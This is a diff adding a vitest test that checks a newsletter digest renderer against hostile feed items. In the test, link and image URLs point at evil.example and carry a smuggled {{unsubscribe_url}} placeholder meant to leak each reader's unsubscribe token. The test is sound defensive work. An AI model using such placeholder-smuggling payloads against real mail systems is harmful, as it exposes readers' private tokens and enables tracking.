@@ -1,7 +1,7 @@
 import { load } from "cheerio";
 import { beforeAll, describe, expect, it } from "vitest";
 import { renderDigest, type RenderedDigest } from "../../packages/core/src/digest/email.ts";
-import { placeholders } from "../../packages/core/src/email/personalise.ts";
+import { personalise, placeholders } from "../../packages/core/src/email/personalise.ts";
 import { newsletter } from "@tidings/templates/newsletter";
 import { digestInput, item, seedItems, themes } from "./fixtures.ts";
 
@@ -176,5 +176,19 @@ describe("hostile feed content", () => {
     expect(digest.html.split(unsubscribe)).toHaveLength(2); // only the footer's
     expect(digest.text.split(unsubscribe)).toHaveLength(2);
     expect(digest.subject).not.toContain(unsubscribe);
+  });
+
+  it("cannot smuggle a placeholder in a link or a picture address to learn readers' links", async () => {
+    const spy = item({
+      link: "https://evil.example/track?u={{unsubscribe_url}}#{{unsubscribe_url}}",
+      image: "https://evil.example/pixel.png?{{unsubscribe_url}}",
+    });
+    const digest = await renderDigest(digestInput([spy, item()]));
+    const reader = personalise(digest, { unsubscribeUrl: "https://tidings.example/unsubscribe?token=SECRET" });
+    const $ = load(reader.html);
+    expect($("img.card-thumb").attr("src")).toBe("https://evil.example/pixel.png?%7B%7Bunsubscribe_url%7D%7D");
+    expect($("a[href^='https://evil.example']").first().attr("href")).not.toContain("SECRET");
+    expect(reader.html.split("SECRET")).toHaveLength(2); // the footer's link, nowhere else
+    expect(reader.text.split("SECRET")).toHaveLength(2);
   });
 });
